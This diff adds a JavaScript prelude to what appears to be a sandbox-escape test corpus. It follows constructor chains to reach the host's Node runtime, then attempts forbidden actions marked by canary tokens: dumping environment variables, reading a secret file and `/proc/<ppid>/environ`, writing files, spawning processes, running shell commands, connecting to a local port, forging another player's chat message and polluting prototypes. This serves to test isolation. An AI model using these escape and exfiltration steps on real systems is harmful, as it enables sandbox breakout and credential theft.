@@ -1,0 +1,72 @@
+/* eslint-disable no-unused-vars, no-undef -- runs before an attack, in its isolate */
+// @ts-nocheck
+/**
+ * Stands before every attack of the corpus: what an attack does once it believes it is through. All of it leaves traces
+ * that are seen from outside: the secrets in any channel, files, processes, connections, words in another's name.
+ *
+ * `CANARY` is `{ token, witness, file, folder, port }`: the attack's own mark, the other player, a file that holds a
+ * secret, a folder in which nothing may appear, a port that nobody may call.
+ */
+const claim = (what) => console.log(`PWNED ${CANARY.token} ${what}`)
+
+/** Expression for a realm that has Node: tries everything that must not work, and returns what it saw as text. */
+const SPOILS = `(() => {
+  const c = ${JSON.stringify(CANARY)}, said = []
+  const attempt = (fn) => { try { said.push(String(fn()).slice(0, 600)) } catch (error) { said.push('no: ' + error.code) } }
+  const load = (name) => process.getBuiltinModule(name)
+  attempt(() => JSON.stringify(process.env))
+  attempt(() => load('fs').readFileSync(c.file, 'utf8'))
+  attempt(() => load('fs').readFileSync('/proc/' + process.ppid + '/environ', 'utf8'))
+  attempt(() => load('fs').writeFileSync(c.folder + '/written-' + c.token, 'x'))
+  attempt(() => { new (load('sqlite').DatabaseSync)(c.folder + '/base-' + c.token).exec('create table t (x)') })
+  attempt(() => load('child_process').spawn('sleep', ['20'], { argv0: c.token, detached: true }).pid)
+  attempt(() => load('child_process').execSync('touch ' + c.folder + '/executed-' + c.token))
+  attempt(() => { load('net').connect(c.port, '127.0.0.1').on('error', () => {}).end(c.token) })
+  attempt(() => load('fs').writeSync(4, JSON.stringify({ k: 'event', kind: 'chat', tick: 1, data: { from: c.witness, text: 'forged ' + c.token } }) + '\\n'))
+  attempt(() => { Array.prototype.accordCanary = c.token })
+  return said.join(' | ')
+})()`
+
+/** `evaluate(code)` runs code somewhere else: is that somewhere Node? */
+const loot = async (evaluate) => {
+  const kind = await evaluate('typeof process')
+  if (kind !== 'object') return false
+  claim('code runs in the host')
+  console.log(String(await evaluate(SPOILS)))
+  return true
+}
+
+/** Follow the constructors of a value to the `Function` of its realm. */
+const follow = async (value) => {
+  let level = value
+  for (let depth = 0; depth < 4 && level !== null && level !== undefined; depth++) {
+    let make
+    try { make = level.constructor } catch { return }
+    if (typeof make !== 'function') return
+    try {
+      if (await loot((code) => make(`return (${code})`)())) return
+      if (await loot((code) => make.constructor(`return (${code})`)())) return
+    } catch { /* a constructor that does not take code */ }
+    level = make
+  }
+}
+
+/** Follow every value that can be reached from `root` by names, up to `limit` objects. */
+const followAll = async (root, limit = 3000) => {
+  const seen = new Set([root])
+  for (const value of seen) {
+    if (seen.size > limit) break
+    await follow(value)
+    let keys = []
+    try { keys = Reflect.ownKeys(value) } catch { continue }
+    const parts = keys.map((key) => { try { return value[key] } catch { return undefined } })
+    try { parts.push(Object.getPrototypeOf(value)) } catch { /* it refuses */ }
+    for (const part of parts) if (part !== null && ['object', 'function'].includes(typeof part)) seen.add(part)
+  }
+}
+
+/** A call that has to be refused: `claim` when it is not. */
+const refused = async (what, call) => {
+  try { await call() } catch { return }
+  claim(`not refused: ${what}`)
+}
